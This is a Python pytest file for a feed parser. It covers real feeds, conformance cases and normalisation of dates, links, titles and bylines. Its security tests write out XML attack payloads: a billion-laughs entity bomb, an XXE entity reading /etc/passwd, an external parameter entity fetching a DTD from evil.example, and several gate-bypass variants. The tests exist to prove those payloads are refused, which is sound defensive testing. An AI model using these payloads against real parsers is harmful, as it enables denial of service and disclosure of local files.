"""Feed normaliser: captured real feeds, feedparser's conformance suite, and unit cases."""

from __future__ import annotations

import json
import re
import time
from datetime import UTC, datetime
from pathlib import Path

import pytest
from corpus_paths import CORPUS

from transforms.errors import FeedRejectedError, TransformError
from transforms.feeds import SUMMARY_MAX_CHARS, TITLE_MAX_CHARS, ParsedFeed, parse_feed, truncate_title

REAL_DIR = CORPUS / "feeds" / "real"
CONFORMANCE_DIR = CORPUS / "feeds" / "conformance"
FEED_URL = "https://news.example/feeds/main.xml"

# Files in feeds/real that are not feeds, or hold no items, each with the reason.
REAL_WITHOUT_ITEMS = {
    "feedjira/history_removed/GoogleBlogSearchpauldix.xml": "a valid Atom feed with zero entries",
    "feedjira/history_removed/google-reader-subscriptions.xml": "an OPML subscription list",
    "feedjira/history_removed/JoomlapoweredSite.xml": "an HTML page",
    "feedjira/history_removed/SFRubyorgHome.xml": "an HTML page",
    "feedjira/history_removed/scRUBYt.xml": "an HTML page",
    "feedjira/history_removed/titleunknown.xml": "an HTML page (a blog login form)",
    "feedjira/history_removed/PaulDixExplainsNothingFirstEntryContent.xml": "an HTML fragment (entry content)",
    "feedjira/sample_feeds/PaulDixExplainsNothingFirstEntryContent.xml": "an HTML fragment (entry content)",
    "feedjira/sample_feeds/AmazonWebServicesBlogFirstEntryContent.xml": "an HTML fragment (entry content)",
    "feedjira/sample_feeds/HREFConsideredHarmfulFirstEntry.xml": "an HTML fragment (entry content)",
    "feedjira/sample_feeds/TechCrunchFirstEntry.xml": "an HTML fragment (entry content)",
    "feedjira/sample_feeds/TechCrunchFirstEntryDescription.xml": "an HTML fragment (entry description)",
    "feedjira/sample_feeds/TenderLovemakingFirstEntry.xml": "an HTML fragment (entry content)",
    "rsparser/ScriptingNews.json": "Dave Winer's RSS-in-JSON format, not JSON Feed",
    "rsparser/allthis-partial.json": "a JSON Feed cut off mid-document (invalid JSON)",
}
# Conformance cases refused before parsing: both declare entities in their DOCTYPE.
CONFORMANCE_REJECTED = {
    "wellformed/rdf/doctype_contains_entity_decl.xml",  # external parameter entity %HTMLlat1
    "wellformed/rss/entity_in_doctype.xml",  # internal entity &id;
}


def _real_feed_files() -> list[Path]:
    if not REAL_DIR.is_dir():
        return []
    return sorted(
        p
        for p in REAL_DIR.rglob("*")
        if p.is_file() and p.name != "LICENSE" and p.suffix not in (".html", ".opml")
    )


REAL_FILES = _real_feed_files()


@pytest.mark.skipif(
    not REAL_DIR.is_dir(), reason=f"feed corpus not found at {REAL_DIR} (set NEWSROOM_CORPUS)"
)
def test_real_corpus_is_complete() -> None:
    # 224 feedjira + 45 rsparser files, less 6 .html and 2 .opml pages.
    assert len(REAL_FILES) == 261
    missing = set(REAL_WITHOUT_ITEMS) - {p.relative_to(REAL_DIR).as_posix() for p in REAL_FILES}
    assert not missing


@pytest.mark.skipif(not REAL_FILES, reason=f"feed corpus not found at {REAL_DIR} (set NEWSROOM_CORPUS)")
@pytest.mark.parametrize(
    "path",
    REAL_FILES or [REAL_DIR],
    ids=[p.relative_to(REAL_DIR).as_posix() for p in REAL_FILES] or ["missing"],
)
def test_real_feed_parses(path: Path) -> None:
    key = path.relative_to(REAL_DIR).as_posix()
    feed = parse_feed(path.read_bytes(), FEED_URL)
    if key in REAL_WITHOUT_ITEMS:
        assert feed.items == ()
        return
    assert feed.items, f"no items; malformed={feed.is_malformed} error={feed.error}"
    for item in feed.items:
        assert item.guid
        assert item.link is None or item.link.startswith(("http://", "https://"))
        assert item.title == item.title.strip() and "  " not in item.title
        assert len(item.summary) <= SUMMARY_MAX_CHARS
        for moment in (item.published_at, item.updated_at):
            assert moment is None or moment.tzinfo is UTC
    assert len({item.guid for item in feed.items}) == len(feed.items)
    assert (feed.error is not None) == feed.is_malformed


def _conformance_headers(raw: bytes) -> dict[str, str]:
    """The ``Header:`` lines of a conformance case's opening comment (HTTP response headers)."""
    head = raw[:2048].decode("latin-1")
    headers: dict[str, str] = {}
    for match in re.finditer(r"^Header:\s*([\w-]+):[ \t]*(.*?)\s*$", head, re.MULTILINE):
        headers[match.group(1)] = match.group(2)
    return headers


@pytest.mark.skipif(not CONFORMANCE_DIR.is_dir(), reason=f"feed corpus not found at {CONFORMANCE_DIR}")
def test_conformance_cases_never_raise() -> None:
    files = sorted(p for p in CONFORMANCE_DIR.rglob("*") if p.is_file() and p.name != "LICENSE")
    assert len(files) == 2107  # 2,106 XML cases and one JSON Feed case
    started = time.perf_counter()
    rejected: set[str] = set()
    malformed = with_items = 0
    for path in files:
        raw = path.read_bytes()
        key = path.relative_to(CONFORMANCE_DIR).as_posix()
        try:
            feed = parse_feed(raw, f"http://127.0.0.1:8097/tests/{key}", headers=_conformance_headers(raw))
        except FeedRejectedError as e:
            assert e.reason and e.url
            rejected.add(key)
            continue
        assert isinstance(feed, ParsedFeed)
        malformed += feed.is_malformed
        with_items += bool(feed.items)
    elapsed = time.perf_counter() - started
    print(
        f"conformance: {len(files)} run, {len(rejected)} rejected, {malformed} malformed, "
        f"{with_items} with items, {elapsed:.1f}s"
    )
    assert rejected == CONFORMANCE_REJECTED


# is_malformed disagrees with the suite's "bozo" expectation only here, on purpose.
BOZO_DISAGREEMENTS = {
    # A text/plain Content-Type is a server fault, not a malformed document.
    "encoding/bozo_http_text_plain.xml",
    "encoding/bozo_http_text_plain_charset.xml",
    # Channel-only CDF documents: no items and not RSS/Atom/RDF, so "not a recognised feed".
    "wellformed/cdf/channel_abstract_map_description.xml",
    "wellformed/cdf/channel_abstract_map_tagline.xml",
    "wellformed/cdf/channel_href_map_link.xml",
    "wellformed/cdf/channel_href_map_links.xml",
    "wellformed/cdf/channel_lastmod.xml",
    "wellformed/cdf/channel_lastmod_parsed.xml",
    "wellformed/cdf/channel_title.xml",
}


@pytest.mark.skipif(not CONFORMANCE_DIR.is_dir(), reason=f"feed corpus not found at {CONFORMANCE_DIR}")
def test_is_malformed_agrees_with_conformance_bozo_expectations() -> None:
    checked = 0
    disagreements: set[str] = set()
    for path in sorted(CONFORMANCE_DIR.rglob("*.xml")):
        raw = path.read_bytes()
        expect = re.search(r"Expect:\s*(not bozo|bozo)\b", raw[:3000].decode("latin-1"))
        key = path.relative_to(CONFORMANCE_DIR).as_posix()
        if not expect or key in CONFORMANCE_REJECTED:
            continue
        feed = parse_feed(raw, f"http://127.0.0.1:8097/tests/{key}", headers=_conformance_headers(raw))
        checked += 1
        if feed.is_malformed != (expect.group(1) == "bozo"):
            disagreements.add(key)
    assert checked > 1700
    assert disagreements == BOZO_DISAGREEMENTS


# --- security ------------------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss version="2.0"><channel><title>&lol9;</title><item><title>x</title></item></channel></rss>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>
<rss version="2.0"><channel><title>t</title><item><title>&xxe;</title></item></channel></rss>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE rss [ <!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote; ]>
<rss version="2.0"><channel><item><title>x</title></item></channel></rss>"""


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (BILLION_LAUGHS, "refusing entity expansion"),
        (XXE, "external entity"),
        (PARAMETER_ENTITY, "external entity (%remote)"),
        (BILLION_LAUGHS.decode().encode("utf-16"), "refusing entity expansion"),
        (b"  \n" + BILLION_LAUGHS.replace(b'<?xml version="1.0"?>', b""), "refusing entity expansion"),
        (b"<!-- x -->" + BILLION_LAUGHS.replace(b"DOCTYPE", b"doctype"), "refusing entity expansion"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "utf16", "leading-space", "lowercase"],
)
def test_entity_declarations_are_rejected(body: bytes, reason: str) -> None:
    with pytest.raises(FeedRejectedError, match=re.escape(reason)) as info:
        parse_feed(body, FEED_URL)
    assert info.value.url == FEED_URL
    assert isinstance(info.value, TransformError)


def test_plain_doctype_without_internal_subset_is_fine() -> None:
    body = b"""<?xml version="1.0"?>
<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"
  "http://my.netscape.com/publish/formats/rss-0.91.dtd">
<rss version="0.91"><channel><title>Old</title><link>http://old.example/</link>
<item><title>One</title><link>http://old.example/1</link></item></channel></rss>"""
    feed = parse_feed(body, FEED_URL)
    assert [i.link for i in feed.items] == ["http://old.example/1"]
    assert not feed.is_malformed


def test_oversized_body_is_rejected() -> None:
    body = b"<rss><channel>" + b" " * 2000 + b"</channel></rss>"
    with pytest.raises(FeedRejectedError, match="over the 1,000-byte cap"):
        parse_feed(body, FEED_URL, max_bytes=1000)
    with pytest.raises(FeedRejectedError):
        parse_feed(b" " * (10 * 1024 * 1024 + 1), FEED_URL)


def test_body_is_never_opened_as_a_file_name() -> None:
    # feedparser.parse(bytes) would open() this path; we hand it a file-like object instead.
    feed = parse_feed(b"/etc/hostname", FEED_URL)
    assert feed.items == () and feed.is_malformed


@pytest.mark.parametrize("kwargs", [{"max_items": 0}, {"max_bytes": 0}], ids=["max_items", "max_bytes"])
def test_bad_arguments(kwargs: dict[str, int]) -> None:
    with pytest.raises(ValueError):
        parse_feed(
            b"<rss/>", FEED_URL, max_items=kwargs.get("max_items", 10), max_bytes=kwargs.get("max_bytes", 10)
        )


# --- normalisation -------------------------------------------------------------------------------


def _rss(items: str, channel: str = "", rss_attrs: str = "") -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n<rss version="2.0" {rss_attrs}><channel>'
        f"<title>Example News</title><link>https://news.example/</link>{channel}{items}</channel></rss>"
    ).encode()


@pytest.mark.parametrize(
    "raw",
    [
        "not a date",
        "2024-13-45T99:00:00Z",
        "Tue, 99 Foo 0000 25:61:00 GMT",
        "0000-00-00",
        "",
        "Mon, 01 Jan 99999",
    ],
    ids=["words", "out-of-range", "bad-rfc822", "zeros", "empty", "huge-year"],
)
def test_garbage_dates_become_none(raw: str) -> None:
    feed = parse_feed(_rss(f"<item><title>x</title><pubDate>{raw}</pubDate></item>"), FEED_URL)
    (item,) = feed.items
    assert item.published_at is None and item.updated_at is None


def test_dates_are_utc() -> None:
    feed = parse_feed(
        _rss("<item><title>x</title><pubDate>Wed, 01 May 2024 10:00:00 +0200</pubDate></item>"), FEED_URL
    )
    assert feed.items[0].published_at == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)


def test_relative_links_are_resolved() -> None:
    rss = _rss(
        "<item><title>a</title><link>/2024/a.html</link></item>"
        "<item><title>b</title><link>b.html</link><guid>12345</guid></item>"
        "<item><title>c</title><link>javascript:alert(1)</link></item>"
    )
    feed = parse_feed(rss, FEED_URL)
    assert [i.link for i in feed.items] == [
        "https://news.example/2024/a.html",
        "https://news.example/feeds/b.html",
        None,
    ]
    assert feed.items[1].guid == "12345"  # a guid is a key, not a URL to resolve

    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom" xml:base="https://blog.example/posts/">
<title>B</title><link rel="alternate" href="/"/>
<entry><id>tag:blog.example,2024:1</id><title>One</title><link href="one"/>
<updated>2024-01-02T03:04:05Z</updated></entry></feed>"""
    feed = parse_feed(atom, FEED_URL)
    assert feed.link == "https://blog.example/"
    assert feed.items[0].link == "https://blog.example/posts/one"
    assert feed.items[0].published_at == datetime(2024, 1, 2, 3, 4, 5, tzinfo=UTC)  # falls back to updated

    feed = parse_feed(
        _rss("<item><link>x</link></item>"), FEED_URL, headers={"Content-Location": "/elsewhere/"}
    )
    assert feed.items[0].link == "https://news.example/elsewhere/x"


def test_titles_and_summaries_are_plain_text() -> None:
    long = "word " * 400
    feed = parse_feed(
        _rss(
            "<item><title><![CDATA[ <b>Bold</b>   &amp; caf&eacute;\n news ]]></title>"
            "<description>&lt;p&gt;Hello &amp;amp; &lt;script&gt;evil()&lt;/script&gt;world&lt;/p&gt;</description>"
            "</item>"
            f"<item><title>Long</title><description>{long}</description></item>"
        ),
        FEED_URL,
    )
    first, second = feed.items
    assert first.title == "Bold & café news"
    assert first.summary == "Hello & world"
    assert len(second.summary) <= SUMMARY_MAX_CHARS and second.summary.endswith("\u2026")


def test_guid_fallbacks_are_stable() -> None:
    body = _rss(
        "<item><title>Has guid</title><guid isPermaLink='false'>abc-1</guid><link>https://n.example/1</link></item>"
        "<item><title>Link only</title><link>https://n.example/2</link></item>"
        "<item><title>Neither</title><pubDate>Wed, 01 May 2024 10:00:00 GMT</pubDate></item>"
    )
    a = parse_feed(body, FEED_URL)
    b = parse_feed(body, "https://other.example/feed")
    assert [i.guid for i in a.items][:2] == ["abc-1", "https://n.example/2"]
    assert a.items[2].guid.startswith("sha1:") and a.items[2].guid == b.items[2].guid


def test_max_items_and_duplicate_guids() -> None:
    items = "".join(f"<item><guid>g{n % 5}</guid><title>{n}</title></item>" for n in range(10))
    assert [i.title for i in parse_feed(_rss(items), FEED_URL).items] == ["0", "1", "2", "3", "4"]
    assert len(parse_feed(_rss(items), FEED_URL, max_items=2).items) == 2


def test_channel_fields_ttl_skip_hours_days_and_hub() -> None:
    body = _rss(
        "<item><title>x</title></item>",
        channel=(
            "<language>en_GB</language><ttl>30</ttl>"
            "<skipHours><hour>0</hour><hour>7</hour><hour>24</hour><hour>99</hour></skipHours>"
            "<skipDays><day>Saturday</day><day>sunday</day><day>Caturday</day></skipDays>"
            '<atom:link rel="hub" href="https://pubsubhubbub.example/"/>'
            '<atom:link rel="self" type="application/rss+xml" href="/feeds/main.xml"/>'
        ),
        rss_attrs='xmlns:atom="http://www.w3.org/2005/Atom"',
    )
    feed = parse_feed(body, FEED_URL)
    assert feed.ttl_minutes == 30
    assert feed.skip_hours == frozenset({0, 7})
    assert feed.skip_days == frozenset({"Saturday", "Sunday"})
    assert feed.hub_url == "https://pubsubhubbub.example/"
    assert feed.self_url == "https://news.example/feeds/main.xml"
    assert feed.language == "en" and feed.items[0].language == "en"  # the primary tag: one writer per language
    assert not feed.is_malformed

    atom = b"""<feed xmlns="http://www.w3.org/2005/Atom"><title>A</title>
<link rel="hub" href="https://hub.example/"/><link rel="self" href="https://a.example/atom"/>
<entry><id>1</id><title>e</title></entry></feed>"""
    feed = parse_feed(atom, FEED_URL)
    assert (feed.hub_url, feed.self_url, feed.ttl_minutes) == (
        "https://hub.example/",
        "https://a.example/atom",
        None,
    )


def test_images_from_media_and_enclosures() -> None:
    body = _rss(
        "<item><title>a</title><media:content url='/img/a.jpg' medium='image'/></item>"
        "<item><title>b</title><media:thumbnail url='https://cdn.example/b.png'/></item>"
        "<item><title>c</title><enclosure url='https://cdn.example/c.webp' type='image/webp' length='1'/></item>"
        "<item><title>d</title><enclosure url='https://cdn.example/d.mp3' type='audio/mpeg' length='1'/></item>",
        rss_attrs='xmlns:media="http://search.yahoo.com/mrss/"',
    )
    images = [i.image_url for i in parse_feed(body, FEED_URL).items]
    assert images == [
        "https://news.example/img/a.jpg",
        "https://cdn.example/b.png",
        "https://cdn.example/c.webp",
        None,
    ]


def test_news_sitemap() -> None:
    body = b"""<?xml version="1.0" encoding="UTF-8"?>
<urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9"
        xmlns:news="http://www.google.com/schemas/sitemap-news/0.9"
        xmlns:image="http://www.google.com/schemas/sitemap-image/1.1">
  <url>
    <loc>https://news.example/business/article55.html</loc>
    <news:news>
      <news:publication><news:name>The Example Times</news:name><news:language>en</news:language></news:publication>
      <news:publication_date>2024-05-01T10:00:00+02:00</news:publication_date>
      <news:title>Companies A &amp; B in merger talks</news:title>
      <news:keywords>business, merger</news:keywords>
    </news:news>
    <image:image><image:loc>https://news.example/img/55.jpg</image:loc></image:image>
  </url>
  <url>
    <loc>/world/article56.html</loc>
    <news:news>
      <news:publication><news:name>The Example Times</news:name><news:language>en</news:language></news:publication>
      <news:publication_date>yesterday-ish</news:publication_date>
      <news:title>Second</news:title>
    </news:news>
  </url>
  <url><loc>https://news.example/about</loc></url>
</urlset>"""
    feed = parse_feed(body, "https://news.example/sitemap-news.xml")
    assert feed.title == "The Example Times" and feed.language == "en" and not feed.is_malformed
    first, second = feed.items
    assert first.guid == first.link == "https://news.example/business/article55.html"
    assert first.title == "Companies A & B in merger talks"
    assert first.published_at == datetime(2024, 5, 1, 8, 0, tzinfo=UTC)
    assert first.categories == ("business", "merger")
    assert first.image_url == "https://news.example/img/55.jpg"
    assert second.link == "https://news.example/world/article56.html" and second.published_at is None

    broken = parse_feed(body[:-20], "https://news.example/sitemap-news.xml")
    assert broken.is_malformed and broken.error and broken.items == ()


def test_wrong_charset_header_still_yields_items() -> None:
    # The server says UTF-8 but sends windows-1252: feedparser falls back and flags it.
    body = (
        '<?xml version="1.0"?><rss version="2.0"><channel><title>Caf\u00e9</title>'
        "<item><title>Cr\u00e8me br\u00fbl\u00e9e \u2013 recipe</title><link>https://n.example/1</link></item>"
        "</channel></rss>"
    ).encode("cp1252")
    feed = parse_feed(body, FEED_URL, headers={"Content-Type": "application/rss+xml; charset=utf-8"})
    assert [i.title for i in feed.items] == ["Cr\u00e8me br\u00fbl\u00e9e \u2013 recipe"]
    assert feed.is_malformed and feed.error and "CharacterEncodingOverride" in feed.error

    # A charset header that names no real encoding at all.
    feed = parse_feed(body, FEED_URL, headers={"content-type": "text/xml; charset=klingon"})
    assert len(feed.items) == 1

    # No header, no declaration, UTF-16 with a BOM.
    utf16 = '<rss version="2.0"><channel><item><title>\u65b0\u95fb</title></item></channel></rss>'.encode(
        "utf-16"
    )
    assert parse_feed(utf16, FEED_URL).items[0].title == "\u65b0\u95fb"


def test_not_a_feed_is_malformed_not_an_error() -> None:
    feed = parse_feed(b"<!DOCTYPE html><html><body><p>Hello</p></body></html>", FEED_URL)
    assert feed.items == () and feed.is_malformed and feed.error


def test_json_feed() -> None:
    body = b"""{"version": "https://jsonfeed.org/version/1.1", "title": "J", "home_page_url": "https://j.example/",
      "feed_url": "https://j.example/feed.json", "language": "fr",
      "hubs": [{"type": "WebSub", "url": "https://hub.example/"}],
      "items": [{"id": 7, "url": "/p/7", "title": "T &amp; U", "content_html": "<p>Body</p>",
                 "date_published": "2024-05-01T10:00:00Z", "tags": ["x"], "image": "/i.png",
                 "authors": [{"name": "Ann"}]}]}"""
    feed = parse_feed(body, FEED_URL)
    (item,) = feed.items
    assert (feed.title, feed.link, feed.hub_url, feed.language) == (
        "J",
        "https://j.example/",
        "https://hub.example/",
        "fr",
    )
    assert (item.guid, item.link, item.title, item.summary) == ("7", "https://j.example/p/7", "T & U", "Body")
    assert item.published_at == datetime(2024, 5, 1, 10, 0, tzinfo=UTC)
    assert (item.categories, item.author, item.image_url) == (("x",), "Ann", "https://j.example/i.png")


# --------------------------------------------------------------------------------------------------
# Feed fields are text: titles keep every character, one guid never hides several items, bylines
# keep every author and never an e-mail address (#16). Cases from feedparser's conformance suite where
# it has one, else the examples the other projects' suites found.
# --------------------------------------------------------------------------------------------------

TEXT_FEED_URL = "https://news.example/feed"
CONFORMANCE = CORPUS / "feeds" / "conformance" / "wellformed"


def _text_rss(items: str, channel: str = "") -> bytes:
    return f'<rss version="2.0" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel>{channel}{items}</channel></rss>'.encode()


def _json(items: list[dict[str, object]], **feed: object) -> bytes:
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "J", "items": items, **feed}).encode()


@pytest.mark.parametrize(
    ("body", "title"),
    [
        (_json([{"id": "1", "url": "https://n.example/1", "title": "Why <div> soup is bad"}]), "Why <div> soup is bad"),
        (_json([{"id": "1", "url": "https://n.example/1", "title": "AT&amp;T &lt;3 R&D"}]), "AT&T <3 R&D"),
        (_text_rss("<item><title>Never trust &lt;script&gt; tags</title><link>https://n.example/1</link></item>"),
         "Never trust <script> tags"),
        (_text_rss("<item><title><![CDATA[If a<b and b>c then]]></title><link>https://n.example/1</link></item>"),
         "If a<b and b>c then"),
        ((CONFORMANCE / "atom10" / "entry_title_text_plain_brackets.xml").read_bytes(), "History of the <blink> tag"),
        # Declared markup is still read as markup: Atom type="html" is HTML to turn into text.
        (b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title type="html">a &lt;b&gt;bold&lt;/b&gt; c</title>'
         b"</entry></feed>", "a bold c"),
    ],
    ids=["json-feed-angle-brackets", "json-feed-references", "rss-escaped-tag", "rss-cdata-comparison",
         "conformance-atom-text-brackets", "atom-declared-html"],
)
def test_a_title_is_text_and_keeps_every_character(body: bytes, title: str) -> None:
    assert parse_feed(body, TEXT_FEED_URL).items[0].title == title


@pytest.mark.parametrize(
    ("body", "title"),
    [
        ((CONFORMANCE / "rss" / "channel_title_lt.xml").read_bytes(), "1 < 2"),
        (_json([], title="Soup & <div>s"), "Soup & <div>s"),
    ],
    ids=["conformance-rss-channel-lt", "json-feed"],
)
def test_a_feed_title_is_text(body: bytes, title: str) -> None:
    assert parse_feed(body, TEXT_FEED_URL).title == title


def test_a_json_feed_summary_is_text() -> None:
    body = _json([{"id": "1", "url": "https://n.example/1", "title": "t", "summary": "Use <div> for blocks"}])
    assert parse_feed(body, TEXT_FEED_URL).items[0].summary == "Use <div> for blocks"


@pytest.mark.parametrize(
    "items",
    [
        "<item><guid isPermaLink='false'>same</guid><title>One</title><link>https://n.example/1</link></item>"
        "<item><guid isPermaLink='false'>same</guid><title>Two</title><link>https://n.example/2</link></item>",
        "<item><guid isPermaLink='false'>same</guid><title>One</title><description>first</description></item>"
        "<item><guid isPermaLink='false'>same</guid><title>Two</title><description>second</description></item>",
    ],
    ids=["different-links", "different-content-no-link"],
)
def test_items_sharing_a_guid_are_not_collapsed(items: str) -> None:
    feed = parse_feed(_text_rss(items), TEXT_FEED_URL)
    assert [i.title for i in feed.items] == ["One", "Two"]
    assert len({i.guid for i in feed.items}) == 2
    assert [i.guid for i in parse_feed(_text_rss(items), TEXT_FEED_URL).items] == [i.guid for i in feed.items]  # stable


def test_json_items_sharing_an_id_are_not_collapsed() -> None:
    body = _json([{"id": "x", "url": "https://n.example/1", "title": "One"},
                  {"id": "x", "url": "https://n.example/2", "title": "Two"}])
    assert [i.title for i in parse_feed(body, TEXT_FEED_URL).items] == ["One", "Two"]


def test_the_same_item_twice_is_kept_once() -> None:
    item = "<item><guid isPermaLink='false'>g</guid><title>One</title><link>https://n.example/1</link></item>"
    assert len(parse_feed(_text_rss(item * 2), TEXT_FEED_URL).items) == 1


@pytest.mark.parametrize(
    ("body", "author"),
    [
        (_text_rss("<item><title>t</title><author>Jane Doe (mailto:jane@example.com)</author></item>"), "Jane Doe"),
        (_text_rss("<item><title>t</title><author>jane@example.com (Jane Doe)</author></item>"), "Jane Doe"),
        (_text_rss("<item><title>t</title><author>jane@example.com</author></item>"), None),
        (_text_rss("<item><title>t</title><dc:creator>Ann A</dc:creator><dc:creator>Bob B</dc:creator></item>"),
         "Ann A, Bob B"),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"><author><name>Desk</name></author>'
         b"<entry><title>t</title></entry></feed>", "Desk"),
        (b'<feed xmlns="http://www.w3.org/2005/Atom"><author><name>Desk</name></author><entry><title>t</title>'
         b"<author><name>A</name></author><author><name>B</name><email>b@x.org</email></author></entry></feed>", "A, B"),
        (_text_rss("<item><title>t</title></item>", channel="<managingEditor>ed@x.org (Ed)</managingEditor>"), None),
        (_json([{"id": "1", "title": "t", "authors": [{"name": "A"}, {"name": "B"}]}]), "A, B"),
        (_json([{"id": "1", "title": "t"}], authors=[{"name": "Desk"}]), "Desk"),
        ((CONFORMANCE / "atom10" / "entry_authors_name.xml").read_bytes(), "one, two"),
    ],
    ids=["rss-name-mailto", "rss-email-name", "rss-email-only", "dc-creators", "atom-feed-author",
         "atom-two-authors", "rss-channel-editor-not-inherited", "json-two-authors", "json-feed-author",
         "conformance-atom-authors"],
)
def test_authors(body: bytes, author: str | None) -> None:
    item = parse_feed(body, TEXT_FEED_URL).items[0]
    assert item.author == author
    assert "@" not in (item.author or "")  # an e-mail address is personal data: never kept


@pytest.mark.parametrize("parser", ["lxml", "feedparser"])
@pytest.mark.parametrize(
    ("byline", "author"),
    [("Jane Doe (https://jane.example)", "Jane Doe (https://jane.example)"),
     ("Jane Doe (https://jane.example/about?tab=posts)", "Jane Doe (https://jane.example/about?tab=posts)"),
     ("Jane Doe (Reuters)", "Jane Doe (Reuters)"),
     ("Jane Doe [Staff]", "Jane Doe [Staff]"),
     ("https://jane.example (Jane Doe)", "https://jane.example (Jane Doe)"),
     ("Jane Doe (Reuters) (mailto:jane@reuters.com)", "Jane Doe (Reuters)"),
     ("jane@example.com (Jane Doe (Reuters))", "Jane Doe (Reuters)"),
     ("(Jane Doe)", "Jane Doe"),
     ("Jane Doe (", "Jane Doe")],
    ids=["url", "url-with-query", "agency", "square", "url-first", "agency-then-mailto", "email-then-nested",
         "wrapped", "unclosed"],
)  # fmt: skip
def test_a_byline_keeps_its_brackets(byline: str, author: str, parser: str) -> None:
    # feedparser's author_detail.name keeps "Jane Doe (https://jane.example)" whole; stripping the
    # brackets at the ends once left "Jane Doe (https://jane.example" and then no brackets at all.
    rss = _text_rss(f"<item><title>t</title><link>https://n.example/1</link><author>{byline}</author></item>")
    atom = (b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><title>t</title><id>1</id><author><name>'
            + byline.encode() + b"</name></author></entry></feed>")
    for body in (rss, atom, _json([{"id": "1", "title": "t", "authors": [{"name": byline}]}])):
        assert parse_feed(body, TEXT_FEED_URL, parser=parser).items[0].author == author  # type: ignore[arg-type]


@pytest.mark.parametrize("parser", ["lxml", "feedparser"])
def test_an_item_without_a_title_is_titled_with_its_summary(parser: str) -> None:
    words = "Rain is expected across the north of the country from Tuesday evening, with strong winds on the coast"
    rss = _text_rss(f"<item><link>https://n.example/1</link><description>&lt;p&gt;{words}&lt;/p&gt;</description></item>"
                    "<item><link>https://n.example/2</link><description>Short note.</description></item>"
                    "<item><title></title><link>https://n.example/3</link><description>Empty title.</description></item>"
                    "<item><title>Own title</title><link>https://n.example/4</link><description>x</description></item>"
                    "<item><link>https://n.example/5</link></item>")
    items = parse_feed(rss, TEXT_FEED_URL, parser=parser).items  # type: ignore[arg-type]
    first = items[0].title
    assert first.endswith("…") and words.startswith(first[:-1]) and 50 < len(first) <= 100, first
    assert [i.title for i in items[1:]] == ["Short note.", "Empty title.", "Own title", ""]
    assert items[0].summary == words  # the summary itself is untouched
    atom = (b'<feed xmlns="http://www.w3.org/2005/Atom"><entry><id>1</id><summary type="html">&lt;b&gt;Only'
            b"&lt;/b&gt; a summary</summary></entry><entry><id>2</id><content>Only content</content></entry></feed>")
    assert [i.title for i in parse_feed(atom, TEXT_FEED_URL, parser=parser).items] == ["Only a summary",  # type: ignore[arg-type]
                                                                                      "Only content"]


def test_a_json_feed_item_without_a_title_is_titled_with_its_text() -> None:
    body = _json([{"id": "1", "content_text": "A note posted without a title."},
                  {"id": "2", "content_html": "<p>Some <em>HTML</em> only.</p>"}])
    assert [i.title for i in parse_feed(body, TEXT_FEED_URL).items] == ["A note posted without a title.",
                                                                        "Some HTML only."]


@pytest.mark.parametrize("meta", ["Jane Doe (mailto:jane@example.com)", "jane@example.com (Jane Doe)"])
def test_a_page_byline_keeps_the_name_not_the_address(meta: str) -> None:
    from transforms.extraction import extract_page

    page = extract_page(f'<html><head><meta name="author" content="{meta}"><title>T</title></head>'
                        "<body><p>text</p></body></html>", "https://n.example/a")
    assert page.author == "Jane Doe"


# --------------------------------------------------------------------------------------------------
# The XML safety gate of ``parse_feed`` against ways around it, and the caps on parsed text.
#
# The gate used to end a DOCTYPE's internal subset at the first ``]>``, even inside a comment or a
# quoted literal, so ``<!-- ]> -->`` hid every entity declaration after it; and feedparser itself
# turns ``<!ENTITY>`` lines found before the root element into an internal subset, so a DOCTYPE
# without any ``[`` could still declare entities. Each case here reached feedparser before the fix.
# --------------------------------------------------------------------------------------------------

ITEM = '<item><title>{title}</title><link>https://news.example/1</link></item>'


def _dtd_rss(prolog: str, title: str = "&e;", *, declaration: str = '<?xml version="1.0"?>') -> bytes:
    return (f'{declaration}{prolog}<rss version="2.0"><channel><title>t</title>'
            f'{ITEM.format(title=title)}</channel></rss>').encode()


# 1,000 "A"s, then four levels of x10: &e; is 10 MB, &d; 1 MB (reviewer's cases 06 and 06b).
NESTED = '<!ENTITY a "' + "A" * 1000 + '">' + "".join(
    f'<!ENTITY {chr(98 + i)} "' + f"&{chr(97 + i)};" * 10 + '">' for i in range(4))
LINE_ENTITY = '\n<!ENTITY a "' + "A" * 100_000 + '">\n'


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (_dtd_rss(f"<!DOCTYPE rss [<!-- ]> -->{NESTED}]>"), "refusing entity expansion"),
        (_dtd_rss(f"<!DOCTYPE rss [<!-- ]> -->{NESTED}]>", "&d;" * 6), "refusing entity expansion"),
        (_dtd_rss("<!DOCTYPE rss [<!-- ]> --><!ENTITY x SYSTEM \"file:///etc/hostname\">]>", "a&x;b"),
         "external entity (x)"),
        (_dtd_rss(f"<!DOCTYPE rss [<!ENTITY q \"]>\">{NESTED}]>"), "refusing entity expansion"),
        (_dtd_rss(f"<!DOCTYPE rss [<?pi ]> ?>{NESTED}]>"), "refusing entity expansion"),
        (_dtd_rss(f"<!DOCTYPE rss [<!ATTLIST rss x CDATA ']>'>{NESTED}]>"), "refusing entity expansion"),
